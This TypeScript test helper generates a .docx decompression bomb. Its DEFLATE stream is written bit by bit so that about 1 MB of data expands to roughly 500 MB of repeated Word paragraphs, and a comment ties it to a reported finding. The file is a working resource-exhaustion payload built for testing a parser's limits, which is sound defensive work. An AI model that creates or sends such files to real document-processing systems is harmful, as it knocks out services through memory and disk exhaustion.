// A .docx whose word/document.xml inflates to hundreds of MB from about 1 MB, written byte by byte
// at test time: a stored block with one stretch of paragraphs, then a fixed-Huffman block of
// nothing but "copy 258 bytes from one stretch back" codes (26 bits each), then the closing XML.
// Compressing 500 MB for real would take half a minute; this takes milliseconds.

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const utf8 = (s: string) => new TextEncoder().encode(s);

class BitWriter {
  private bytes: number[] = [];
  private bit = 0;
  private cur = 0;
  /** Writes `count` bits of `value`, least significant first (DEFLATE's order for fields). */
  bits(value: number, count: number): void {
    for (let i = 0; i < count; i++) {
      this.cur |= ((value >>> i) & 1) << this.bit;
      if (++this.bit === 8) this.flushByte();
    }
  }
  /** Writes a Huffman code, most significant bit first. */
  code(value: number, length: number): void {
    for (let i = length - 1; i >= 0; i--) this.bits((value >>> i) & 1, 1);
  }
  align(): void {
    if (this.bit > 0) this.flushByte();
  }
  raw(data: Uint8Array): void {
    this.align();
    for (const b of data) this.bytes.push(b);
  }
  private flushByte(): void {
    this.bytes.push(this.cur);
    this.cur = 0;
    this.bit = 0;
  }
  done(): Uint8Array {
    this.align();
    return Uint8Array.from(this.bytes);
  }
}

function storedBlock(w: BitWriter, data: Uint8Array, final: boolean): void {
  w.bits(final ? 1 : 0, 1);
  w.bits(0, 2);
  w.align();
  w.bits(data.length, 16);
  w.bits(~data.length & 0xffff, 16);
  w.raw(data);
}

// One stretch of paragraphs, padded with spaces (between elements, so the XML stays valid) to
// 64 × 258 bytes: each copy of it is then exactly 64 length-258 matches at distance STRETCH.
const STRETCH = 258 * 64;

function stretch(): Uint8Array {
  const para = '<w:p><w:r><w:t>全年受理行政复议案件1件。</w:t></w:r></w:p>';
  let s = '';
  while (utf8(s + para).length <= STRETCH) s += para;
  const bytes = new Uint8Array(STRETCH).fill(0x20);
  bytes.set(utf8(s));
  return bytes;
}

/** Raw DEFLATE data of head + body×copies + tail. */
function bombDeflate(head: Uint8Array, body: Uint8Array, copies: number, tail: Uint8Array): Uint8Array {
  const w = new BitWriter();
  const first = new Uint8Array(head.length + body.length);
  first.set(head);
  first.set(body, head.length);
  storedBlock(w, first, false);
  w.bits(0, 1);
  w.bits(1, 2); // fixed Huffman codes
  // Distance 16 512 is distance code 28 (base 16 385) with 13 extra bits = 127.
  for (let i = 0; i < (copies - 1) * 64; i++) {
    w.code(0b11000101, 8); // length code 285 = 258
    w.code(28, 5);
    w.bits(STRETCH - 16385, 13);
  }
  w.code(0, 7); // end of block
  storedBlock(w, tail, true);
  return w.done();
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(data: Uint8Array): number {
  let c = 0xffffffff;
  for (const b of data) c = CRC_TABLE[(c ^ b) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

interface Entry {
  name: string;
  method: 0 | 8;
  data: Uint8Array;
  size: number;
  crc: number;
}

function zip(entries: readonly Entry[]): Uint8Array {
  const parts: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = utf8(e.name);
    const local = new DataView(new ArrayBuffer(30));
    local.setUint32(0, 0x04034b50, true);
    local.setUint16(4, 20, true);
    local.setUint16(6, 0x0800, true); // UTF-8 names
    local.setUint16(8, e.method, true);
    local.setUint32(14, e.crc, true);
    local.setUint32(18, e.data.length, true);
    local.setUint32(22, e.size, true);
    local.setUint16(26, name.length, true);
    parts.push(new Uint8Array(local.buffer), name, e.data);
    const dir = new DataView(new ArrayBuffer(46));
    dir.setUint32(0, 0x02014b50, true);
    dir.setUint16(4, 20, true);
    dir.setUint16(6, 20, true);
    dir.setUint16(8, 0x0800, true);
    dir.setUint16(10, e.method, true);
    dir.setUint32(16, e.crc, true);
    dir.setUint32(20, e.data.length, true);
    dir.setUint32(24, e.size, true);
    dir.setUint16(28, name.length, true);
    dir.setUint32(42, offset, true);
    central.push(new Uint8Array(dir.buffer), name);
    offset += 30 + name.length + e.data.length;
  }
  const dirSize = central.reduce((n, p) => n + p.length, 0);
  const end = new DataView(new ArrayBuffer(22));
  end.setUint32(0, 0x06054b50, true);
  end.setUint16(8, entries.length, true);
  end.setUint16(10, entries.length, true);
  end.setUint32(12, dirSize, true);
  end.setUint32(16, offset, true);
  const all = [...parts, ...central, new Uint8Array(end.buffer)];
  const out = new Uint8Array(all.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of all) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

const stored = (name: string, text: string): Entry => {
  const data = utf8(text);
  return { name, method: 0, data, size: data.length, crc: crc32(data) };
};

/**
 * A .docx whose document part inflates to about `inflatedMB` MB of paragraphs (500 by default,
 * like the file in the finding). The declared size is honest; the CRC of the bomb part is not
 * computed (it would mean hashing all of it) and is 0.
 */
export function buildDocxBomb(inflatedMB = 500): Uint8Array {
  const head = utf8(`<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${W}"><w:body>`);
  const tail = utf8('</w:body></w:document>');
  const copies = Math.ceil((inflatedMB * 1024 * 1024) / STRETCH);
  const data = bombDeflate(head, stretch(), copies, tail);
  const size = head.length + copies * STRETCH + tail.length;
  return zip([
    stored(
      '[Content_Types].xml',
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        '<Default Extension="xml" ContentType="application/xml"/>' +
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ),
    stored(
      '_rels/.rels',
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    ),
    { name: 'word/document.xml', method: 8, data, size, crc: 0 },
  ]);
}
